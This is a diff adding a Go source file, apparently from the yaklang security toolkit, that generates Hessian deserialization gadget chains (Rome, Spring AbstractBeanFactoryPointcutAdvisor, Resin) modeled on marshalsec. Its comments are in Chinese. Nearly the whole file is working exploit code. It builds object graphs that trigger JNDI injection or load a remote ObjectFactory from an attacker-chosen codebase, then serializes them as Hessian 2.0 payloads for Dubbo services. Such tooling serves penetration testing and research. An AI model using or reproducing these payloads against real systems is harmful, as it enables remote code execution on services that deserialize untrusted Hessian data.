@@ -0,0 +1,174 @@
+package hessian
+
+import (
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+// GadgetInfo Hessian 反序列化利用链，与 marshalsec 中 Hessian 的同名利用链构造方式相同。
+// Hessian 反序列化不调用 readObject，利用链都通过 HashMap.put 触发 hashCode / equals
+type GadgetInfo struct {
+	Name       string
+	Dependency string
+	Desc       string
+	// Args 生成利用链需要的参数
+	Args     []string
+	generate func(args []string) *Value
+}
+
+var allGadgets = []*GadgetInfo{
+	{
+		Name:       "Rome",
+		Dependency: "rome:rome:1.0",
+		Desc:       "EqualsBean.hashCode 调用 ToStringBean.toString，依次调用 JdbcRowSetImpl 的 getter 触发 JNDI 注入",
+		Args:       []string{"jndi"},
+		generate: func(args []string) *Value {
+			const pkg = "com.sun.syndication.feed.impl."
+			toStringBean := NewObject(pkg+"ToStringBean").
+				Set("_beanClass", NewClass("com.sun.rowset.JdbcRowSetImpl")).
+				Set("_obj", jdbcRowSet(args[0]))
+			equalsBean := NewObject(pkg+"EqualsBean").
+				Set("_beanClass", NewClass(pkg+"ToStringBean")).
+				Set("_obj", toStringBean)
+			return hashMapTrigger(equalsBean, equalsBean)
+		},
+	},
+	{
+		Name:       "SpringAbstractBeanFactoryPointcutAdvisor",
+		Dependency: "org.springframework:spring-aop, org.springframework:spring-context",
+		Desc:       "HotSwappableTargetSource.equals 调用 AbstractPointcutAdvisor.equals，getAdvice 通过 SimpleJndiBeanFactory 触发 JNDI 注入",
+		Args:       []string{"jndi"},
+		generate: func(args []string) *Value {
+			const advisorClass = "org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor"
+			const targetSourceClass = "org.springframework.aop.target.HotSwappableTargetSource"
+			beanFactory := NewObject("org.springframework.jndi.support.SimpleJndiBeanFactory").
+				Set("shareableResources", NewList("java.util.HashSet", args[0]))
+			advisor := NewObject(advisorClass).Set("adviceBeanName", args[0]).Set("beanFactory", beanFactory)
+			// 第二个 advisor 的 getAdvice 返回 null，用于比较时调用第一个 advisor 的 getAdvice
+			empty := NewObject(advisorClass).Set("adviceBeanName", nil).Set("beanFactory", nil)
+			return hashMapTrigger(
+				NewObject(targetSourceClass).Set("target", advisor),
+				NewObject(targetSourceClass).Set("target", empty),
+			)
+		},
+	},
+	{
+		Name:       "Resin",
+		Dependency: "com.caucho:resin",
+		Desc:       "XString.equals 调用 QName.toString，ContinuationContext.composeName 从 codebase 加载 ObjectFactory",
+		Args:       []string{"codebase", "class"},
+		generate: func(args []string) *Value {
+			reference := NewObject("javax.naming.Reference").
+				Set("className", "Foo").
+				Set("addrs", NewList("java.util.Vector")).
+				Set("classFactory", args[1]).
+				Set("classFactoryLocation", args[0])
+			cpe := NewObject("javax.naming.CannotProceedException").Set("resolvedObj", reference)
+			ctx := NewObject("javax.naming.spi.ContinuationContext").
+				Set("cpe", cpe).
+				Set("env", NewMap("java.util.Hashtable"))
+			items := []string{"foo", "bar"}
+			qName := NewObject("com.caucho.naming.QName").
+				Set("_context", ctx).
+				Set("_items", NewList("", "foo", "bar"))
+			// XString 与 QName 的 hashCode 相同，HashMap.put 时才会调用 equals
+			xString := NewObject("com.sun.org.apache.xpath.internal.objects.XString").
+				Set("m_obj", javaStringWithHash(qNameHashCode(items)))
+			return hashMapTrigger(qName, xString)
+		},
+	},
+}
+
+// jdbcRowSet 与 marshalsec 的 JDKUtil.makeJNDIRowSet 相同，只保留用到的字段
+func jdbcRowSet(jndi string) *Value {
+	matchColumns := NewList("java.util.Vector", "foo")
+	indexes := NewList("java.util.Vector", -1)
+	for i := 1; i < 10; i++ {
+		matchColumns.Add(nil)
+		indexes.Add(-1)
+	}
+	return NewObject("com.sun.rowset.JdbcRowSetImpl").
+		Set("iMatchColumns", indexes).
+		Set("strMatchColumns", matchColumns).
+		Set("dataSource", jndi)
+}
+
+// hashMapTrigger 与 marshalsec 的 JDKUtil.makeMap 相同，两个键值对的键与值相同
+func hashMapTrigger(k1, k2 *Value) *Value {
+	return NewMap("").Put(k1, k1).Put(k2, k2)
+}
+
+func javaStringHashCode(units []uint16) int32 {
+	var h int32
+	for _, c := range units {
+		h = 31*h + int32(c)
+	}
+	return h
+}
+
+// qNameHashCode com.caucho.naming.QName.hashCode
+func qNameHashCode(items []string) int32 {
+	var h int32 = 337
+	for i := len(items) - 1; i >= 0; i-- {
+		h = 65521*h + javaStringHashCode(toJavaChars(items[i]))
+	}
+	return h
+}
+
+// javaStringWithHash 生成 hashCode 为 hash 的 Java 字符串，与 marshalsec 的 unhash 相同，但不生成代理字符
+func javaStringWithHash(hash int32) string {
+	var units []uint16
+	target := hash
+	if target < 0 {
+		// hashCode 为 Integer.MIN_VALUE 的字符串，与任意字符串拼接后 hashCode 为两者之和
+		units = append(units, 0x0915, 0x0009, 0x001e, 0x000c, 0x0002)
+		if target == -1<<31 {
+			return fromJavaChars(units)
+		}
+		target &= 0x7fffffff
+	}
+	var unhash func(target int32)
+	unhash = func(target int32) {
+		div, rem := target/31, target%31
+		if div <= 0xffff && (div < 0xd800 || div > 0xdfff) {
+			if div != 0 {
+				units = append(units, uint16(div))
+			}
+		} else {
+			unhash(div)
+		}
+		units = append(units, uint16(rem))
+	}
+	unhash(target)
+	return fromJavaChars(units)
+}
+
+// GetAllGadgets 获取支持的 Hessian 反序列化利用链
+func GetAllGadgets() []*GadgetInfo {
+	return allGadgets
+}
+
+// GenerateGadget 生成 Hessian 反序列化利用链，Rome 与 SpringAbstractBeanFactoryPointcutAdvisor 的参数为 JNDI 地址，
+// Resin 的参数为 codebase 与 ObjectFactory 类名
+func GenerateGadget(name string, args ...string) (*Value, error) {
+	for _, g := range allGadgets {
+		if !strings.EqualFold(g.Name, name) {
+			continue
+		}
+		if len(args) != len(g.Args) {
+			return nil, utils.Errorf("gadget %s requires arguments: %s", g.Name, strings.Join(g.Args, ", "))
+		}
+		return g.generate(args), nil
+	}
+	return nil, utils.Errorf("not support hessian gadget: %s", name)
+}
+
+// GenerateGadgetBytes 生成 Hessian 2.0 序列化的利用链，Dubbo 默认使用 Hessian 2.0
+func GenerateGadgetBytes(name string, args ...string) ([]byte, error) {
+	v, err := GenerateGadget(name, args...)
+	if err != nil {
+		return nil, err
+	}
+	return MarshalHessian2(v), nil
+}